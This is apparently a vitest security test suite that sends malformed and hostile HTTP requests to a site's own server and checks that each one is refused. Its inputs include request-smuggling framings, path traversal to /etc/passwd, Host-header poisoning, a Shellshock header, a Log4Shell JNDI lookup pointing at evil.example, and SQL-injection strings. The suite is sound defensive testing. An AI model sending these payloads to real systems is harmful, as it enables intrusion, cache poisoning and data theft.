import { describe, test } from "vitest";

import { attack, attacked, underAttack } from "../support/hostile/attack";
import { ask, requestBytes, sendBytes } from "../support/hostile/raw";
import { some } from "../support/hostile/strings";
import { mark } from "../support/hostile/verdict";

underAttack("requests that are hardly HTTP");

const host = `127.0.0.1:${attacked.port}`;
describe("bytes that are no request", () => {
  const lines: Record<string, string | Buffer> = {
    "nothing but line ends": "\r\n\r\n\r\n\r\n",
    "a TLS greeting": Buffer.from("16030100a5010000a10303", "hex"),
    "an HTTP/2 preface": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "an SSH greeting": "SSH-2.0-OpenSSH_9.2p1\r\n\r\n",
    "a mail": "EHLO evil.example\r\nMAIL FROM:<a@evil.example>\r\n\r\n",
    noise: Buffer.from(Array.from({ length: 4000 }, (_, index) => (index * 7919) % 256)),
    nulls: Buffer.alloc(70_000),
    "no version": `GET /\r\nHost: ${host}\r\n\r\n`,
    "version 0.9": "GET /\r\n",
    "version 1.0": "GET / HTTP/1.0\r\n\r\n",
    "version 1.0 kept open": "GET / HTTP/1.0\r\nConnection: keep-alive\r\n\r\n\r\n",
    "version 1.2": `GET / HTTP/1.2\r\nHost: ${host}\r\n\r\n`,
    "version 2.0": `GET / HTTP/2.0\r\nHost: ${host}\r\n\r\n`,
    "version 9.9": `GET / HTTP/9.9\r\nHost: ${host}\r\n\r\n`,
    "version in small letters": `GET / http/1.1\r\nHost: ${host}\r\n\r\n`,
    "two spaces": `GET  /  HTTP/1.1\r\nHost: ${host}\r\n\r\n`,
    "a tab between": `GET\t/\tHTTP/1.1\r\nHost: ${host}\r\n\r\n`,
    "a space in the path": `GET /a b HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`,
    "a null in the path": `GET /a\0b HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`,
    "bare line feeds": `GET / HTTP/1.1\nHost: ${host}\nConnection: close\n\n`,
    "bare carriage returns": `GET / HTTP/1.1\rHost: ${host}\r\r`,
    "a space before the first line": ` GET / HTTP/1.1\r\nHost: ${host}\r\n\r\n`,
    "an empty path": `GET  HTTP/1.1\r\nHost: ${host}\r\n\r\n`,
    "no method": `/ HTTP/1.1\r\nHost: ${host}\r\n\r\n`,
    "a folded header": `GET / HTTP/1.1\r\nHost: ${host}\r\nX-A: b\r\n c\r\nConnection: close\r\n\r\n`,
    "a space before the colon": `GET / HTTP/1.1\r\nHost : ${host}\r\nConnection: close\r\n\r\n`,
    "a header without colon": `GET / HTTP/1.1\r\nHost: ${host}\r\nnonsense\r\n\r\n`,
    "a header without name": `GET / HTTP/1.1\r\nHost: ${host}\r\n: value\r\n\r\n`,
    "a header of quotes": `GET / HTTP/1.1\r\nHost: ${host}\r\n"a": value\r\n\r\n`,
    "a null in a header": `GET / HTTP/1.1\r\nHost: ${host}\r\nX-A: a\0b\r\nConnection: close\r\n\r\n`,
    "a header of 300 kB": `GET / HTTP/1.1\r\nHost: ${host}\r\nX-A: ${"a".repeat(300_000)}\r\nConnection: close\r\n\r\n`,
    "2,500 headers": `GET / HTTP/1.1\r\nHost: ${host}\r\n${Array.from({ length: 2500 }, (_, index) => `a${index}: b\r\n`).join("")}Connection: close\r\n\r\n`,
    "a method of 20 kB": `${"A".repeat(20_000)} / HTTP/1.1\r\nHost: ${host}\r\n\r\n`,
    "a path of 80,000": `GET /${"a".repeat(80_000)} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`,
    CONNECT: `CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n`,
    "CONNECT to a path": `CONNECT / HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`,
  };

  test("are refused or dropped, and nothing more", async () => {
    await attack(
      Object.entries(lines).map(([name, bytes]) => ({
        name,
        make: () => sendBytes(attacked, bytes, { halfOpen: true }),
        mayCut: true,
        needsNoHeaders: true,
      })),
    );
  });
});

describe("a body whose length is a trick", () => {
  const post = (lines: string, body: string) =>
    `POST /contact HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/x-www-form-urlencoded\r\nConnection: close\r\n${lines}\r\n${body}`;
  const smuggled = `GET /smuggled HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
  const framings: Record<string, string> = {
    "both framings, length first": post(`Content-Length: 6\r\nTransfer-Encoding: chunked\r\n`, `0\r\n\r\n${smuggled}`),
    "both framings, chunks first": post(`Transfer-Encoding: chunked\r\nContent-Length: 4\r\n`, `0\r\n\r\n${smuggled}`),
    "two lengths": post(`Content-Length: 3\r\nContent-Length: 30\r\n`, `a=b${smuggled}`),
    "two lengths alike": post(`Content-Length: 3\r\nContent-Length: 3\r\n`, "a=b"),
    "a list of lengths": post(`Content-Length: 3, 3\r\n`, "a=b"),
    "a length below nothing": post(`Content-Length: -1\r\n`, "a=b"),
    "a length with a sign": post(`Content-Length: +3\r\n`, "a=b"),
    "a length in hexadecimal": post(`Content-Length: 0x3\r\n`, "a=b"),
    "a length beyond numbers": post(`Content-Length: 99999999999999999999999\r\n`, "a=b"),
    "a length of words": post(`Content-Length: three\r\n`, "a=b"),
    "an empty length": post(`Content-Length:\r\n`, "a=b"),
    "a length too short": post(`Content-Length: 1\r\n`, `a=b${smuggled}`),
    "a chunk of no size": post(`Transfer-Encoding: chunked\r\n`, `zz\r\na=b\r\n0\r\n\r\n`),
    "a chunk below nothing": post(`Transfer-Encoding: chunked\r\n`, `-3\r\na=b\r\n0\r\n\r\n`),
    "a chunk larger than memory": post(`Transfer-Encoding: chunked\r\n`, `FFFFFFFFFFFFFFFFF\r\na=b\r\n0\r\n\r\n`),
    "a chunk size with a space": post(`Transfer-Encoding: chunked\r\n`, `3 \r\na=b\r\n0\r\n\r\n`),
    "a chunk with an extension of 100 kB": post(
      `Transfer-Encoding: chunked\r\n`,
      `3;${"x".repeat(100_000)}\r\na=b\r\n0\r\n\r\n`,
    ),
    "a chunk without its end": post(`Transfer-Encoding: chunked\r\n`, `3\r\na=bXX0\r\n\r\n`),
    "a trailer that is a header": post(
      `Transfer-Encoding: chunked\r\nTrailer: Content-Type\r\n`,
      `3\r\na=b\r\n0\r\nContent-Type: text/html\r\nX-Injected: yes\r\n\r\n`,
    ),
    "a trailer of 100 kB": post(
      `Transfer-Encoding: chunked\r\n`,
      `3\r\na=b\r\n0\r\nX-A: ${"a".repeat(100_000)}\r\n\r\n`,
    ),
    "an unknown coding": post(`Transfer-Encoding: cow\r\n`, "a=b"),
    "chunked twice": post(`Transfer-Encoding: chunked, chunked\r\n`, `3\r\na=b\r\n0\r\n\r\n`),
    "chunked before gzip": post(`Transfer-Encoding: chunked, gzip\r\n`, `3\r\na=b\r\n0\r\n\r\n`),
    identity: post(`Transfer-Encoding: identity\r\n`, "a=b"),
    "chunked with a tab": post(`Transfer-Encoding:\tchunked\r\n`, `3\r\na=b\r\n0\r\n\r\n`),
    "chunked in a folded line": post(`Transfer-Encoding:\r\n chunked\r\n`, `3\r\na=b\r\n0\r\n\r\n`),
    "chunked under another name": post(`Transfer-Encoding : chunked\r\n`, `3\r\na=b\r\n0\r\n\r\n`),
    "a body of a GET": `GET / HTTP/1.1\r\nHost: ${host}\r\nContent-Length: ${smuggled.length}\r\nConnection: close\r\n\r\n${smuggled}`,
    "a chunked body of a GET": `GET / HTTP/1.1\r\nHost: ${host}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n3\r\na=b\r\n0\r\n\r\n`,
  };

  test("is read as it stands or refused, and hides no second request", async () => {
    await attack(
      Object.entries(framings).map(([name, bytes]) => ({
        name,
        make: () => sendBytes(attacked, bytes, { halfOpen: true }),
        mayCut: true,
        needsNoHeaders: true,
        answers: 1,
      })),
    );
  });
});

describe("a host that is none", () => {
  const hosts: Record<string, string> = {
    "no host": "",
    "an empty one": "Host:\r\n",
    two: `Host: ${host}\r\nHost: evil.example\r\n`,
    "two alike": `Host: ${host}\r\nHost: ${host}\r\n`,
    "a space": "Host: a b\r\n",
    "a path": "Host: evil.example/path\r\n",
    "a name and a password": "Host: user:password@evil.example\r\n",
    "a query": "Host: evil.example?x=1\r\n",
    "a fragment": "Host: evil.example#x\r\n",
    "a backslash": "Host: evil.example\\x\r\n",
    markup: `Host: ${mark}\r\n`,
    "a quote": `Host: evil.example"onx=\r\n`,
    "a list": "Host: a.example, b.example\r\n",
    "a port of letters": "Host: 127.0.0.1:abc\r\n",
    "a port too large": "Host: 127.0.0.1:99999\r\n",
    "a port below nothing": "Host: 127.0.0.1:-1\r\n",
    "an empty port": "Host: 127.0.0.1:\r\n",
    "nothing but a port": "Host: :80\r\n",
    "half an address of version 6": "Host: [::1\r\n",
    "an address of version 6": "Host: [::1]:80\r\n",
    "an address with a zone": "Host: [fe80::1%25eth0]\r\n",
    "letters of other scripts": "Host: пример.example\r\n",
    "a name in codes": "Host: xn--e1afmkfd.example\r\n",
    "a broken name in codes": "Host: xn--\u00e9\r\n",
    "percent codes": "Host: %65vil.example\r\n",
    "broken percent codes": "Host: %zz\r\n",
    brackets: "Host: <>\r\n",
    dots: "Host: ...\r\n",
    "an underscore": "Host: a_b\r\n",
    "a star": "Host: *\r\n",
    "8,000 letters": `Host: ${"a".repeat(8000)}\r\n`,
    "the number of an address": "Host: 2130706433\r\n",
    "an address too large": "Host: 999.999.999.999\r\n",
    "of a prototype": "Host: __proto__\r\n",
    "a null": "Host: a\0b\r\n",
  };
  const paths = [
    "/",
    "/contact",
    "/sitemap.xml",
    "/admin/login",
    "/nowhere",
    "/uploads/none.jpg",
    "/favicon.svg",
    "/?lang=es",
    "/properties?page=2",
  ];

  test("is refused or taken for a name, on every kind of page", async () => {
    await attack(
      Object.entries(hosts).flatMap(([name, lines], place) =>
        some(paths, 4, place).map((path) => ({
          name: `${name} for ${path}`,
          make: () => sendBytes(attacked, `GET ${path} HTTP/1.1\r\n${lines}Connection: close\r\n\r\n`),
          needsNoHeaders: true,
        })),
      ),
    );
  });

  test("is refused where a form is sent to it", async () => {
    await attack(
      Object.entries(hosts).map(([name, lines]) => ({
        name,
        make: () =>
          sendBytes(
            attacked,
            `POST /contact HTTP/1.1\r\n${lines}Origin: http://evil.example\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 3\r\nConnection: close\r\n\r\na=b`,
          ),
        needsNoHeaders: true,
        statuses: [400, 403, 414, 421, 431],
      })),
    );
  });

  test("of somebody else never stays on a page that others read", async () => {
    const shared = [
      "/",
      "/es",
      "/properties",
      "/articles/feed.xml",
      "/sitemap.xml",
      "/robots.txt",
      "/neighborhoods",
      "/nowhere-at-all",
    ];
    for (const path of shared) {
      for (const name of ["Host", "X-Forwarded-Host"]) {
        await ask(attacked, path, { headers: { [name]: "evil.example" } });
      }
    }
    await attack(
      shared.map((path) => ({
        name: path,
        make: () => ask(attacked, path),
        never: ["evil.example"],
      })),
    );
  });
});

describe("a target that is no path", () => {
  const targets: Record<string, string> = {
    "a whole address": `http://${host}/contact`,
    "of somebody else": "http://evil.example/contact",
    "of another scheme": "file:///etc/passwd",
    "of a script": "javascript:alert(1)",
    "of mail": "mailto:a@example.com",
    "a star": "*",
    "no slash": "contact",
    "a query alone": "?lang=es",
    "a fragment": "/#x",
    "two slashes": "//",
    "two slashes and a host": "//evil.example/%2e%2e",
    "three slashes": "///evil.example",
    "a backslash": "/\\",
    backslashes: "\\\\evil.example\\x",
    "a user": `http://user:password@${host}/`,
    "half an address of version 6": "http://[::1",
    "a port too large": "http://127.0.0.1:99999/",
    "an empty host": "http:///contact",
    "dots above the root": "/../../../../etc/passwd",
    "dots in codes": "/%2e%2e/%2e%2e/etc/passwd",
    semicolons: "/..;/admin",
    "a path of a file and more": "/favicon.svg/../../package.json",
    "high letters": "/caf\u00e9",
    "a semicolon before dots": "/uploads/..;/..;/package.json",
    "8,000 slashes": "/".repeat(8000),
    "4,000 dots": "/.".repeat(4000),
    "a control": "/a\u0001b",
    "a delete": "/a\u007fb",
  };

  test("is answered as a path of ours or refused", async () => {
    await attack(
      Object.entries(targets).map(([name, path]) => ({
        name,
        make: () => ask(attacked, path),
        needsNoHeaders: true,
        never: ["root:x:0", '"dependencies"'],
      })),
    );
  });
});

describe("a method that nobody takes", () => {
  const methods = [
    "TRACE",
    "TRACK",
    "OPTIONS",
    "PROPFIND",
    "PUT",
    "PATCH",
    "DELETE",
    "SEARCH",
    "MKCOL",
    "LOCK",
    "M-SEARCH",
    "QUERY",
    "PURGE",
    "LINK",
    "SOURCE",
    "get",
    "post",
    "Get",
    "FOO",
    "__proto__",
    "GETS",
    "CONNECT",
  ];
  const paths = [
    "/",
    "/contact",
    "/admin",
    "/admin/login",
    "/admin/sign-out",
    "/favicon.svg",
    "/healthz",
    "/robots.txt",
    "/sitemap.xml",
    "/uploads/none.jpg",
    "/nowhere",
    "/properties?page=1",
    "/__manifest",
    "/favourites",
    "/contact.data",
  ];

  test("is refused on every kind of page", async () => {
    await attack(
      methods.flatMap((method, place) =>
        paths.flatMap((path, index) =>
          [(place + index) % 2 ? "a=b" : undefined].map((body) => ({
            name: `${method} ${path} ${body ? "with a body" : ""}`,
            make: () =>
              ask(attacked, path, { method, body, headers: { "Content-Type": "application/x-www-form-urlencoded" } }),
            mayCut: method === "CONNECT",
            needsNoHeaders: true,
            isRefused: method !== "OPTIONS",
          })),
        ),
      ),
    );
  });

  test("OPTIONS of the whole server is answered", async () => {
    await attack([{ name: "*", make: () => ask(attacked, "*", { method: "OPTIONS" }), needsNoHeaders: true }]);
  });

  test("a method said in a header or a field counts for nothing", async () => {
    await attack(
      ["X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"].map((name) => ({
        name,
        make: () => ask(attacked, "/contact", { headers: { [name]: "DELETE" } }),
        statuses: [200],
      })),
    );
  });
});

describe("a header that means something elsewhere", () => {
  const headers: Record<string, string>[] = [
    { Expect: "100-continue" },
    { Expect: "200-maybe" },
    {
      Upgrade: "websocket",
      Connection: "Upgrade",
      "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==",
      "Sec-WebSocket-Version": "13",
    },
    { Upgrade: "h2c", Connection: "Upgrade, HTTP2-Settings", "HTTP2-Settings": "AAMAAABkAAQAAP__" },
    { "X-Forwarded-For": "127.0.0.1, ::1, <script>" },
    { "X-Forwarded-For": "a".repeat(5000) },
    { "X-Forwarded-For": "," },
    { "X-Forwarded-Host": "evil.example" },
    { "X-Forwarded-Host": "a b, \\" },
    { "X-Forwarded-Host": `${mark}` },
    { "X-Forwarded-Proto": "javascript" },
    { "X-Forwarded-Proto": "https, http, \u00e9" },
    { "X-Forwarded-Port": "99999" },
    { "X-Forwarded-Prefix": "//evil.example" },
    { "X-Original-URL": "/admin", "X-Rewrite-URL": "/admin" },
    { Forwarded: "for=unknown;host=evil.example;proto=https" },
    { "Fly-Client-IP": "1' or '1'='1" },
    { "X-Visitor-Address": "10.0.0.1" },
    { "X-Visitor-Address": "::::::::" },
    { "X-Remix-Request": "yes", "X-Remix-Response": "yes" },
    { Accept: "*/*;q=NaN" },
    { Accept: "text/html".repeat(800) },
    { "Accept-Language": "xx-".repeat(2000) },
    { "Accept-Language": "*;q=1e309,__proto__" },
    { "Accept-Encoding": "br;q=2, gzip;q=-1, __proto__, *;q=x" },
    { "Accept-Encoding": "identity;q=0, *;q=0" },
    { "Accept-Encoding": ",,,,;;;;====" },
    { "Accept-Charset": "utf-7" },
    { "User-Agent": mark },
    { "User-Agent": "a".repeat(6000) },
    { "User-Agent": "() { :;}; /bin/true" },
    { "User-Agent": "${jndi:ldap://evil.example/a}" },
    { Referer: "javascript:alert(1)" },
    { Referer: `http://127.0.0.1/${mark}` },
    { Referer: "\\\\evil" },
    { Origin: "null" },
    { Origin: "\u00e9" },
    { Origin: "http://[" },
    { Authorization: "Basic \u00ff" },
    { Authorization: "Bearer ".repeat(500) },
    { "If-None-Match": "*" },
    { "If-None-Match": '"' },
    { "If-None-Match": '"a", W/"b", '.repeat(300) },
    { "If-Match": '"none"' },
    { "If-Match": "*" },
    { "If-Modified-Since": "Thu, 01 Jan 0000 00:00:00 GMT" },
    { "If-Modified-Since": "yesterday" },
    { "If-Modified-Since": "Sat, 31 Dec 999999 23:59:59 GMT" },
    { "If-Unmodified-Since": "Thu, 01 Jan 1970 00:00:00 GMT" },
    { "If-Range": '"x' },
    { Range: "bytes=0-0" },
    { Range: "bytes=5-3" },
    { Range: "pages=1-2" },
    { "Cache-Control": "only-if-cached, no-store, max-age=-1e309" },
    { Pragma: "x".repeat(4000) },
    { TE: "trailers, deflate;q=0.5, __proto__" },
    { Trailer: "Host" },
    { "Keep-Alive": "timeout=99999999, max=0" },
    { Connection: "close, Host, Cookie, X-Visitor-Address" },
    { "Content-Type": 'text/html; charset="' },
    { "Content-Encoding": "gzip" },
    { "Content-Length": "0" },
    { "Sec-Fetch-Site": "cross-site", "Sec-Fetch-Dest": "document" },
    { "Sec-Fetch-Site": "__proto__" },
    { "Sec-Purpose": "prefetch" },
    { Purpose: "prefetch" },
    { "Max-Forwards": "0" },
    { Via: "1.1 ".repeat(900) },
    { "Proxy-Connection": "keep-alive", Proxy: "http://evil.example" },
    { Upgrade_Insecure_Requests: "1" },
    { constructor: "x", __proto__x: "y", __proto__: "z" },
    { "X-A": "\u00ff\u00fe\u0080" },
    { "X-Request-Id": "a\u2028b" },
    { traceparent: "00-ffff" },
  ];
  const paths = [
    "/",
    "/properties?page=1",
    "/contact",
    "/admin/login",
    "/nowhere",
    "/favicon.svg",
    "/sitemap.xml",
    "/healthz",
    "/admin",
    "/contact.data",
    "/?lang=es",
  ];

  test("moves nothing here", async () => {
    await attack(
      headers.flatMap((each, place) =>
        some(paths, 5, place).map((path) => ({
          name: `${path} with ${JSON.stringify(each).slice(0, 80)}`,
          make: () => ask(attacked, path, { headers: each }),
          never: ["Location: http://evil", "evil.example/admin"],
          needsNoHeaders: true,
        })),
      ),
    );
  });
});

describe("many requests on one connection", () => {
  test("each has one answer, in order", async () => {
    const paths = ["/healthz", "/nowhere", "/favicon.svg", "/property/abc", "/robots.txt"];
    await attack([
      {
        name: "pipelined",
        make: () =>
          sendBytes(
            attacked,
            Buffer.concat(
              Array.from({ length: 60 }, (_, index) =>
                requestBytes(attacked, paths[index % paths.length]!, {
                  headers: { Connection: index === 59 ? "close" : "keep-alive" },
                }),
              ),
            ),
          ),
        answers: 60,
      },
      {
        name: "pipelined behind a form that is refused",
        make: () =>
          sendBytes(
            attacked,
            Buffer.concat([
              requestBytes(attacked, "/contact", {
                method: "POST",
                body: "a=b",
                headers: { Connection: "keep-alive", "Content-Type": "text/plain", Origin: "http://evil.example" },
              }),
              requestBytes(attacked, "/healthz"),
            ]),
          ),
        answers: 2,
      },
    ]);
  });
});
